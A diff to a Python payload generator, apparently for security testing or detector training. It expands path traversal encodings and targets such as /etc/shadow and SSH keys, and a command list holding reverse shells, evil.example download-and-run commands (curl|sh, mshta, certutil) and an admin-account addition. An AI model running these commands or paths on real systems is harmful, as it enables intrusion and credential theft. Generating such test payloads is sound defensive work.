@@ -102,14 +102,14 @@ def xss(chance):
 
 def path_traversal(chance):
     """Paths out of the folder, files of the system, wrappers, encodings of dots and slashes."""
-    up = chance.choice(["../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%252f", "..%c0%af", "..%u2215", "%c0%ae%c0%ae/", "..//", "/..", "\\../", ".../", "./../", "..\\/", "..%00/"])
+    up = chance.choice(["../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%252f", "..%c0%af", "..%u2215", "%c0%ae%c0%ae/", "..//", "/..", "\\../", ".../", "./../", "..\\/", "..%00/", "..../", ".\\..\\", "/%5c../", "..%5c/", "0x2e0x2e0x2f", "0x2e0x2e0x5c", "/./", "..%%32%66", "..%e0%80%af", "%uff0e%uff0e%u2215", "../././", "..%01/", "%2e%2e%5c", "..^/"])
     target = chance.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "etc/hosts", "proc/self/environ", "WEB-INF/web.xml", "winnt/system32/cmd.exe", "var/log/apache2/access.log", "etc/passwd%00.jpg", "windows\\system32\\drivers\\etc\\hosts", "root/.ssh/id_rsa", "home/user/.bash_history", "app/config/parameters.yml", "etc/issue", ".env", "wp-config.php", "inetpub/logs", "proc/version", "{FILE}", "etc/group", "autoexec.bat", w(chance)])
     return chance.choice([
-        up * chance.randint(2, 12) + target, up * chance.randint(1, 6) + target, f"/{target}" if "/" in target else f"../../{target}", f"{w(chance)}/{up * chance.randint(2, 8)}{target}", f"file:///{target}", f"php://filter/convert.base64-encode/resource={w(chance)}.php", f"/var/www/{up * chance.randint(2, 6)}{target}", f"C:\\{target}", f"/{up * chance.randint(2, 9)}{target}\x00", f"{w(chance)}.php\x00.{w(chance)[:3]}", f"zip://{w(chance)}.zip#{w(chance)}.php", f"/static/{up * 3}{target}", f"..{chance.choice(['/', chr(92)])}" * chance.randint(3, 20), f"expect://id", f"/proc/self/fd/{chance.randint(0, 20)}", f"/etc/{w(chance)}/../passwd",
+        up * chance.randint(2, 12) + target, up * chance.randint(1, 6) + target, f"/{target}" if "/" in target else f"../../{target}", f"{w(chance)}/{up * chance.randint(2, 8)}{target}", f"file:///{target}", f"php://filter/convert.base64-encode/resource={w(chance)}.php", f"/var/www/{up * chance.randint(2, 6)}{target}", f"C:\\{target}", f"/{up * chance.randint(2, 9)}{target}\x00", f"{w(chance)}.php\x00.{w(chance)[:3]}", f"zip://{w(chance)}.zip#{w(chance)}.php", f"/static/{up * 3}{target}", f"..{chance.choice(['/', chr(92)])}" * chance.randint(3, 20), f"expect://id", f"/scripts/{up * chance.randint(1, 6)}winnt/system32/cmd.exe?/c+dir+c:\\", f"/cgi-bin/{up * chance.randint(2, 6)}{target}", f"{up * chance.randint(3, 9)}{target}{chance.choice(['%00', '%00.html', '^^', '?', '%23', ';', '%20', '.jpg'])}", f"C:/{target}", f"\\\\localhost\\c$\\{target}", f"/{'./' * chance.randint(5, 60)}{target}", f"/proc/self/fd/{chance.randint(0, 20)}", f"/etc/{w(chance)}/../passwd",
     ])
 
 
-COMMANDS = ["id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "ping -c 3 192.0.2.1", "sleep 5", "wget http://evil.example/x.sh", "curl http://evil.example/x|sh", "nc -e /bin/sh 192.0.2.1 4444", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "dir c:\\", "type c:\\boot.ini", "net user", "ipconfig /all", "echo vulnerable", "/bin/sleep 31", "/usr/bin/id", "cat${IFS}/etc/passwd", "c'a't /etc/passwd", "/???/c?t /???/p??swd", "powershell -enc SQBFAFgA", "cmd /c dir", "nslookup x.evil.example", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "rm -rf /tmp/x", "touch /tmp/pwned", "printenv", "ps aux", "chmod 777 x", "expr 12 + 13", "w\\hoami", "tail /etc/hosts", "cat<>/etc/passwd", "{cat,/etc/passwd}", "netstat -an", "systeminfo", "reg query HKLM", "ifconfig"]
+COMMANDS = ["id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "ping -c 3 192.0.2.1", "sleep 5", "wget http://evil.example/x.sh", "curl http://evil.example/x|sh", "nc -e /bin/sh 192.0.2.1 4444", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "dir c:\\", "type c:\\boot.ini", "net user", "ipconfig /all", "echo vulnerable", "/bin/sleep 31", "/usr/bin/id", "cat${IFS}/etc/passwd", "c'a't /etc/passwd", "/???/c?t /???/p??swd", "powershell -enc SQBFAFgA", "cmd /c dir", "nslookup x.evil.example", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "rm -rf /tmp/x", "touch /tmp/pwned", "printenv", "ps aux", "chmod 777 x", "expr 12 + 13", "w\\hoami", "tail /etc/hosts", "cat<>/etc/passwd", "{cat,/etc/passwd}", "netstat -an", "systeminfo", "reg query HKLM", "ifconfig", "/usr/bin/whoami", "\\windows\\system32\\cmd.exe /c dir", "c:\\windows\\system32\\ipconfig.exe", "net localgroup administrators /add x", "ls", "true", "env", "set", "dir", "ping -n 21 127.0.0.1", "ping -i 30 127.0.0.1", "/bin/ls -al", "/bin/cat /etc/shadow", "which curl", "cmd.exe /c ver", "`id`", "sudo -l", "exec ls", "echo $((1+1))", "awk 'BEGIN{system(\"id\")}'", "busybox nc -l", "mshta http://evil.example/x.hta", "certutil -urlcache -f http://evil.example/x", "tasklist", "crontab -l", "find / -perm -4000"]
 
 
 def rce(chance):
@@ -142,8 +142,10 @@ KEYWORDS = re.compile(r"\b(select|union|from|where|and|or|order|by|insert|update
 def disguised(chance, text, kind):
     """The same attack as tampering tools write it."""
     roll = chance.random()
-    if roll < 0.25:
+    if roll < 0.2:
         return text
+    if roll < 0.25:
+        return re.sub(r"\s*([()',=;\"]|--)\s*", r" \1 ", text)
     if roll < 0.35:
         return text.upper()
     if roll < 0.47:
